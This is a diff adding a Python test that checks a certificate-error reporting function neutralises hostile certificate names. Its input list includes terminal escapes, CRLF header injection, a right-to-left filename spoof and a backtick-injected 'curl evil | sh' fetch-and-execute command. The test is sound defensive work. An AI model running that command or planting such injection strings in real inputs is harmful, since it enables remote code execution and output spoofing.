@@ -93,6 +93,21 @@ def test_names_are_told_up_to_five() -> None:
     assert "`3.example`, `4.example`." in certificate_fault(62, "", (leaf,), SIDE, NOW).detail
 
 
+HOSTILE = ["\x1b[2J\x1b]0;x\x07", "a\r\nSet-Cookie: x", "a\x00b", "`; run `curl evil | sh", "\u202egpj.exe", "x" * 50_000]
+
+
+@pytest.mark.parametrize("name", HOSTILE, ids=["escapes", "lines", "nul", "quotes", "direction", "length"])
+@pytest.mark.parametrize("code", [20, 62], ids=["issuer", "name"])
+def test_a_certificate_s_own_words_are_shown_harmless(name: str, code: int) -> None:
+    """Anybody can write anything into a certificate: it is in an answer, a log and on a terminal before it is verified."""
+    shown = {"issuer": ((("commonName", name),),), "subjectAltName": (("DNS", name),) * 5_000}
+    says = certificate_fault(code, "what OpenSSL says", (shown,), SIDE, NOW).detail
+    assert says.isprintable()
+    assert len(says) < 2_000
+    assert says.count("`") % 2 == 0
+    assert name not in says
+
+
 def test_an_issuer_without_a_common_name_is_named_by_its_last_part() -> None:
     """Some CAs have an organisation only."""
     chain = ({"issuer": ((("countryName", "DE"),), (("organizationName", "A CA"),))},) * 2
